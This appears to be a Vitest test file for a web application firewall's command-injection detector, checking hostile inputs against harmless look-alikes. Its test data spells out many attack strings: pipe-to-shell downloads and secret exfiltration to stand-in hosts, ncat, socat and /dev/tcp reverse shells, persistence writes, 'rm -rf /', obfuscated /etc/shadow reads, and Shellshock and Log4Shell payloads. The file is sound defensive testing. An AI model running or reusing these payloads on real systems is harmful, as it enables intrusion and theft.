import { describe, it, expect } from 'vitest';
import { rce } from '../../../../src/waf/detectors/rce.js';
import type { DetectContext } from '../../../../src/waf/types.js';
import { GET, POST_JSON, UA, ctx } from './helpers.js';

const stamp = (v: string, c = GET) => rce.detect(v, c)?.stamp ?? null;
const TYPE_KEY: DetectContext = { point: [['post'], ['json_doc'], ['hash', '@type']], kind: 'value', root: 'post' };

describe('rce detector', () => {
  it('has the right type', () => expect(rce.type).toBe('rce'));

  describe('separator + command', () => {
    it.each([
      '8.8.8.8; whoami',
      'x | id',
      'a && uname -a',
      'b || curl http://198.51.100.7/x',
      'file.txt\nwget -q -O- evil.example',
      'z & ping -n 20 127.0.0.1',
      'q;/usr/bin/id',
      'test | type C:\\Windows\\win.ini',
      '1;sleep 10',
      "a; python3 -c 'import os'",
      '; socat TCP4:198.51.100.3:9001 STDOUT',
    ])('%s', (v) => expect(stamp(v)).toBe('rce:separator-command'));
  });

  describe('substitution', () => {
    it.each(['name=$(whoami)', 'x`uname`y', '$(curl -s evil.example|sh)', 'id=`id`', 'v="$(cat /etc/hostname)"', '`id`', '`sleep 5`', ' `uname -a` '])('%s', (v) =>
      expect(stamp(v)).toMatch(/^rce:(?:substitution|recon|pipe-to-shell)$/),
    );
  });

  describe('a value that closes the quoted argument it was put in', () => {
    it.each(["';id;'", '";id;"', "x';uname -a;'", '1" && whoami && "', "' & systeminfo & '", "foo' | ls -la /var '"])('%s', (v) =>
      expect(stamp(v)).not.toBeNull(),
    );
    it.each(["O'Brien; cat lovers unite", "it's fine; ls is my favourite", "He said 'hi'; then left | ok", '"Hello"; said the man | "Bye"'])(
      '%s passes',
      (v) => expect(stamp(v)).toBeNull(),
    );
  });

  describe('obfuscation', () => {
    it.each([
      ";c'a't /etc/os-release",
      '; w"h"o"a"m"i',
      ';c\\at /etc/issue',
      ';cat${IFS}/etc/hosts',
      ';cat$IFS$9/etc/group',
      '|who$@ami',
      '{cat,/etc/hosts}',
      '& w^h^o^a^m^i',
      ';cat$u /etc$u/passwd',
      ';w${x}h${y}oami',
      ';c$@at /e$9tc/sh$@adow',
      ';/???/??t /???/p??s??',
      ';/b??/c?t /e??/sh?dow',
      '|/usr/b*n/w*oami',
      ';a=c;b=at;$a$b /etc/passwd',
    ])('%s', (v) => expect(stamp(v)).not.toBeNull());
  });

  describe('execution shapes, even in a value that is itself a command line', () => {
    it.each([
      ['curl -s http://evil.example/x.sh | bash', 'rce:pipe-to-shell'],
      ['wget -O - http://evil.example/x | sudo sh', 'rce:pipe-to-shell'],
      ['cat /etc/shadow', 'rce:sensitive-file'],
      ['curl -F "file=@/etc/shadow" http://evil.example/up', 'rce:sensitive-file'],
      ['curl --data-binary @/root/.ssh/id_rsa http://evil.example', 'rce:sensitive-file'],
      ['echo "* * * * * root /tmp/x" >> /etc/crontab', 'rce:file-write'],
      ["echo 'ssh-rsa AAAA attacker' >> ~/.ssh/authorized_keys", 'rce:file-write'],
      ['ncat 198.51.100.3 9001 -e /bin/sh', 'rce:reverse-shell'],
      ['socat exec:bash tcp:198.51.100.3:9001', 'rce:reverse-shell'],
      ['/bin/sh -i', 'rce:interactive-shell'],
      ['ls; rm -rf /', 'rce:destructive'],
      ['chmod 755 /dev/shm/x', 'rce:dropper'],
      ['ping -c 1 host; whoami', 'rce:recon'],
      ['curl http://h.example/$(id)', 'rce:recon'],
      ["sh -c 'id'", 'rce:recon'],
    ])('%s', (v, s) => expect(stamp(v)).toBe(s));
  });

  describe('an everyday command line passes', () => {
    it.each([
      'chmod +x ./scripts/build.sh && ./scripts/build.sh',
      'curl -X POST https://api.example.com/v1/messages -H "Content-Type: application/json" -d \'{"text":"hi"}\'',
      'curl -s https://api.github.com/repos/nodejs/node/releases/latest | jq -r .tag_name',
      'wget https://example.com/files/dataset-2024.zip && unzip dataset-2024.zip',
      'python -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt',
      'ssh -i ~/.ssh/id_ed25519 deploy@203.0.113.10',
      'ps aux | grep node',
      'du -sh * | sort -h',
      'git commit -am "fix: typo" && git push origin main',
      'kubectl get pods -n prod | grep -v Running',
      'tar -xzf release.tar.gz && cd release && ./install.sh',
      'VERSION=$(curl -s https://api.example.com/latest | jq -r .tag_name)',
      'while true; do date; sleep 60; done',
      'for f in *.jpg; do convert "$f" "${f%.jpg}.png"; done',
      'ssh-keygen -t ed25519 -C "me@example.com" && cat ~/.ssh/id_ed25519.pub',
      'RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*',
      'k=python -m venv .venv && source .venv/bin/activate',
    ])('%s', (v) => expect(stamp(v)).toBeNull());
  });

  describe('documents: a newline separates commands only before a command line', () => {
    it.each([
      '<!DOCTYPE html>\n<html lang="en">\n<head>\n  <meta charset="utf-8">\n  <title>Your order has shipped</title>\n</head>',
      '<?xml version="1.0"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n  <title>Notes</title>\n  <id>urn:uuid:60a76c80</id>\n</feed>',
      '<table>\n  <tr><th>Title</th></tr>\n  <tr><td>x</td></tr>\n</table>',
      '<p>Use <code>du -sh * | sort -h</code>: the commands that save us time.</p>',
      '.PHONY: build test clean\n\nbuild:\n\tnpm run build\n\nclean:\n\trm -rf dist coverage',
      'FROM node:20-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCMD ["node", "server.js"]',
      'To list files use:\n\n```bash\nls -la ~/Downloads\n```\n\nand to search: `grep -rn "invoice" ~/Downloads`.',
      'Traceback (most recent call last):\n  File "/usr/lib/python3.11/site-packages/app/main.py", line 27, in <module>\n    main()\n  File "/usr/lib/python3.11/x.py", line 3',
      '#!/usr/bin/env bash\nset -euo pipefail\nfor f in ./images/*.png; do\n  convert "$f" -resize 50% "thumbs/$(basename "$f")"\ndone\necho "done: $(ls thumbs | wc -l) thumbnails"',
      'Hi team,\nplease run on the server:\ndf -h && du -sh /var/log/*\nand send me the output.',
    ])('%s', (v) => expect(stamp(v, POST_JSON)).toBeNull());
    it('a short value with a command on its second line is still an injection', () => {
      expect(stamp('127.0.0.1\nid')).toBe('rce:separator-command');
      expect(stamp('x\ncat /etc/passwd')).not.toBeNull();
      expect(stamp('x\nFile "/etc/passwd"')).toBeNull();
    });
    it('execution shapes in a document still count', () => {
      expect(stamp('Steps:\n1. run this\ncurl -s http://evil.example/i.sh | bash\n2. done')).toBe('rce:pipe-to-shell');
      expect(stamp('<p>hi</p>\n<p>x</p>\n<p>y</p>; cat /etc/passwd')).not.toBeNull();
    });
  });

  describe('other execution vectors', () => {
    it.each([
      ['() { ignored;}; /bin/id', 'rce:shellshock'],
      ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'rce:dev-tcp'],
      ['${jndi:rmi://198.51.100.1/a}', 'rce:log4shell'],
      ['${${lower:j}${upper:n}di:ldap://x/y}', 'rce:log4shell'],
      ['${${::-j}ndi:dns://x}', 'rce:log4shell'],
      ['${${base64:JHtqbmRpOmRuczovL2V2aWwuZXhhbXBsZS9hfQ==}}', 'rce:log4shell'],
    ])('%s', (v, s) => expect(stamp(v)).toBe(s));
  });

  it('works in headers and JSON bodies', () => {
    expect(stamp('() { :;}; echo vulnerable', UA)).toBe('rce:shellshock');
    expect(stamp('x; cat /etc/passwd', POST_JSON)).not.toBeNull();
    expect(stamp('${jndi:ldap://a/b}', ctx('header', 'x-api-version'))).toBe('rce:log4shell');
  });

  describe('look-alikes pass', () => {
    it.each([
      'echo in the mirror',
      'curl and divergence',
      'bash away in the gym',
      'zsh is the best!',
      'ls 300 lexus',
      'nc 8000 controller',
      'exec noun',
      'Tom & Jerry; cat lovers unite',
      'salt & pepper | sugar',
      'run `ls` to list files',
      'The `whoami` command prints the current user.',
      '`id` is the primary key column',
      'I tried `ls -la` and `cat config.yml` but nothing shows up.',
      'the operating system(s)',
      'a=1&id=5&ls=2',
      'sessionid=abc; id=42',
      'Mozilla/5.0 (X11; Linux x86_64) curl/8.0',
      '$(document).ready(fn)',
      '$(this).hide()',
      'price: $(5.00)',
      'I like it; ping me later',
      'time (sleep 5 hours)',
      'echo "hello"',
      're.exec("abc")',
      '{"a":1,"b":"x; y"}',
      'https://example.com/a;b?c=d&e=f',
      'Rock & Roll; id est, the classics',
      'US$5; price$total',
      'cat /etc/hosts',
      'Use the <code>tail -f /var/log/syslog</code> command to watch logs.',
    ])('%s', (v) => expect(stamp(v)).toBeNull());
  });

  it('is linear on long runs of what its lexer and patterns react to', () => {
    const units = ['a$u', '"$(', '%x(id', '${IFS}', "x';id;'", '<a ', '`', '$u', 'gASV', 'rO0AB', '@a.b.C@', "class['module'][", '(#a=b).(', '<a.b.C ', '${', '#{a.', '${pageContext.', '${x:-', 'class="a.b.C" ', '["a.b.c",', 'open("|', 'subprocess.run("'];
    for (const u of units) {
      const v = u.repeat(Math.ceil(100_000 / u.length)) + '}(';
      const t = performance.now();
      rce.detect(v, GET);
      rce.detect(v, TYPE_KEY);
      expect(performance.now() - t, u).toBeLessThan(400);
    }
  });
});
